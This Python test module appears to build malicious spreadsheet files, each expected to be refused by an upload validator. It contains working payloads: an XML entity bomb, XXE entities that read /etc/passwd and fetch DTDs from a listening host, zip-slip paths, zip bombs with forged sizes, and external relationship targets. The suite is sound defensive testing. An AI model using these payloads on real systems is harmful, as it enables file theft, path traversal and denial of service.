"""Files that are built to harm: each is refused as abnormal, quickly, and nothing is written or fetched."""

import io
import re
import struct
import warnings
import zipfile
from collections.abc import Callable

from tests.proof.surgery import BOOK, BOOK_RELATED, CORE, CUSTOM, SHEET, STRINGS, STYLES, Change, Parts, operate
from tests.proof.variants.model import ALL, ONCE, WITH_STRINGS, Expected, Make, Recipe, refused

_ENTITIES = '<!DOCTYPE a [<!ENTITY a "aaaaaaaaaa">' + "".join(
    f'<!ENTITY {chr(98 + i)} "{f"&{chr(97 + i)};" * 10}">' for i in range(9)
) + "]>"  # fmt: skip


def _behind_declaration(part: str, doctype: str) -> Change:
    def change(parts: Parts) -> None:
        text = parts.text(part)
        head = re.match(r"\s*<\?xml[^>]*\?>", text)
        at = head.end() if head else 0
        parts.write(part, text[:at] + doctype + text[at:])

    return change


def _insert(xml: str) -> Change:
    return lambda parts: parts.replace(SHEET, "</sheetData>", f"{xml}</sheetData>")


def _merge(*ranges: str) -> Change:
    def change(parts: Parts) -> None:
        merges = "".join(f'<mergeCell ref="{each}"/>' for each in ranges)
        if "</mergeCells>" in parts.text(SHEET):
            parts.replace(SHEET, "</mergeCells>", f"{merges}</mergeCells>")
        else:
            parts.replace(SHEET, "</sheetData>", f"</sheetData><mergeCells>{merges}</mergeCells>")

    return change


def _put(name: str, content: bytes = b"x") -> Change:
    return lambda parts: parts.members.update({name: content})


def _inflate(part: str, megabytes: int) -> Change:
    """Blanks in the middle of a part that is read."""

    def change(parts: Parts) -> None:
        content = parts.members[part]
        at = content.rfind(b"</")
        parts.members[part] = content[:at] + b" " * (megabytes * 1_000_000) + content[at:]

    return change


def _fill_strings(parts: Parts) -> None:
    parts.replace(STRINGS, "</sst>", "<si><t/></si>" * 8_000_000 + "</sst>")


def _inflate_all_sheets(parts: Parts) -> None:
    """Each under the limit for one part, together over that for all."""
    for name in list(parts.members):
        if name.startswith("xl/worksheets/sheet"):
            _inflate(name, 60)(parts)


def _double(data: bytes) -> bytes:
    written = io.BytesIO(data)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns of just this
        with zipfile.ZipFile(written, "a") as archive:
            archive.writestr(SHEET, "<worksheet/>")
    return written.getvalue()


def _declare(size: int, megabytes: int = 90) -> Make:
    """A bomb whose directory says that every member has this size."""

    def make(data: bytes) -> bytes:
        packed = bytearray(operate(_inflate(SHEET, megabytes))(data))
        at = packed.find(b"PK\x01\x02")
        while at >= 0:
            struct.pack_into("<I", packed, at + 24, size)
            at = packed.find(b"PK\x01\x02", at + 1)
        return bytes(packed)

    return make


def _retarget(kind: str, target: str) -> Change:
    """Let a relationship of the book lead elsewhere. ValueError, where it has none of the kind."""

    def change(parts: Parts) -> None:
        led = []

        def lead(found: re.Match[str]) -> str:
            is_meant = f'/{kind}"' in found[0] and (kind != "worksheet" or "sheet2.xml" in found[0])
            led.append(is_meant)
            return re.sub(r'Target="[^"]*"', target, found[0]) if is_meant else found[0]

        parts.substitute(BOOK_RELATED, r"<Relationship [^>]*/>", lead)
        if not any(led):
            raise ValueError(f"no relationship of the kind {kind}")

    return change


def _remove(part: str) -> Change:
    return lambda parts: parts.members.__delitem__(part)


def _double_sheet_name(parts: Parts) -> None:
    parts.substitute(BOOK, r'<sheet [^>]*name="填报说明"[^>]*/>', lambda found: found[0].replace("填报说明", "填报表"))


def _double_cell(parts: Parts) -> None:
    parts.substitute(SHEET, r"<row .*?</row>", lambda found: found[0] * 2, 1)


def _bomb(name: str, change: Change, says: str = "文件结构异常", programs: tuple[str, ...] = ALL) -> Recipe:
    return Recipe("built to harm", name, operate(change), refused(says), programs)


def make_recipes(elsewhere: str) -> tuple[Recipe, ...]:
    """`elsewhere`: host and port at which somebody listens, to hear whether anything is fetched."""
    external: Callable[[str], str] = (
        '<!DOCTYPE a [<!ENTITY % b SYSTEM "{}"> %b; <!ENTITY c SYSTEM "file:///etc/passwd">]>'.format
    )
    return (
        _bomb("value in the last cell of all", _insert('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'), "在很远的单元格"),
        _bomb("value one row too low", _insert('<row r="20001"><c r="A20001"><v>1</v></c></row>'), "在很远的单元格"),
        _bomb("value one column too far", _insert('<row r="300"><c r="SS300"><v>1</v></c></row>'), "在很远的单元格"),
        _bomb("one merge over everything", _merge("A1:XFD1048576"), "合并单元格范围过大"),
        _bomb("many merges", _merge(*(f"A{top}:P{top + 999}" for top in range(1000, 14000, 1000))), "合并单元格范围过大"),
        _bomb("100 MB of tiny strings", _fill_strings, programs=WITH_STRINGS),
        _bomb("a sheet of 90 MB", _inflate(SHEET, 90), "解压后过大"),
        Recipe("built to harm", "sheets of 60 MB each", operate(_inflate_all_sheets), Expected("either", says="解压后过大")),
        _bomb("three million elements", _insert("<a/>" * 3_000_001), "XML 元素过多"),
        _bomb("elements nested a hundred deep", _insert("<a>" * 100 + "</a>" * 100), "XML 嵌套过深"),
        _bomb("more values than any form", _insert(("<row>" + "<c><v>1</v></c>" * 500 + "</row>") * 801), "有内容的单元格超过"),
        _bomb("entity bomb in the sheet", _behind_declaration(SHEET, _ENTITIES), "DOCTYPE"),
        _bomb("entity bomb in the strings", _behind_declaration(STRINGS, _ENTITIES), "DOCTYPE", WITH_STRINGS),
        _bomb("entity bomb in the book", _behind_declaration(BOOK, _ENTITIES), "DOCTYPE"),
        _bomb("external entity in the sheet", _behind_declaration(SHEET, external(f"http://{elsewhere}/a.dtd")), "DOCTYPE"),
        _bomb("external entity in the properties", _behind_declaration(CORE, external(f"http://{elsewhere}/b.dtd")), "DOCTYPE"),
        _bomb("external entity in the custom properties", _behind_declaration(CUSTOM, external(f"http://{elsewhere}/c.dtd")), "DOCTYPE"),
        _bomb("external entity in the styles", _behind_declaration(STYLES, external(f"http://{elsewhere}/d.dtd")), "DOCTYPE"),
        _bomb("3,001 members", lambda parts: parts.members.update({f"a{i}": b"" for i in range(3001)}), "压缩包内文件超过"),
        _bomb("a name that leads out", _put("../../evil.txt"), "指向文件之外"),
        _bomb("a name that leads out, the Windows way", _put("xl\\..\\..\\evil.txt"), "指向文件之外"),
        _bomb("an absolute name", _put("/evil.txt"), "指向文件之外"),
        _bomb("a name with a drive", _put("C:\\evil.txt"), "指向文件之外"),
        _bomb("two parts but for case", _put(SHEET.upper()), "重名的部件"),
        Recipe("built to harm", "two members of one name", _double, refused("重名的部件")),
        _bomb("the sheet's part missing", _remove(SHEET), "的内容不在文件里"),
        _bomb("the sheet lies on the net", _retarget("worksheet", f'TargetMode="External" Target="http://{elsewhere}/s.xml"'), "的内容不在文件里"),
        _bomb("the sheet lies above the package", _retarget("worksheet", 'Target="../../sheet2.xml"'), "的内容不在文件里"),
        _bomb("the strings lie on the net", _retarget("sharedStrings", f'TargetMode="External" Target="http://{elsewhere}/t.xml"'), "部件指向文件之外", WITH_STRINGS),
        _bomb("two sheets of one name", _double_sheet_name, "同名的工作表"),
        _bomb("a row twice", _double_cell, "出现两次"),
        _bomb("strings missing", _remove(STRINGS), "文件已损坏", WITH_STRINGS),
        _bomb("book missing", _remove(BOOK), "文件已损坏"),
        Recipe("built to harm", "a bomb that is said to be empty", _declare(0), refused(""), ONCE),
        Recipe("built to harm", "a bomb that is said to be small", _declare(1000), refused(""), ONCE),
        Recipe("built to harm", "a bomb that is said to be huge", _declare(2**32 - 2), refused(""), ONCE),
        Recipe("built to harm", "an odd compression", operate(lambda _: None, zipfile.ZIP_LZMA), refused("少见的压缩方式"), ONCE),
        Recipe("built to harm", "over 20 MB", lambda data: data + bytes(20 * 1024 * 1024), refused("超过 20 MB"), ONCE),
    )  # fmt: skip
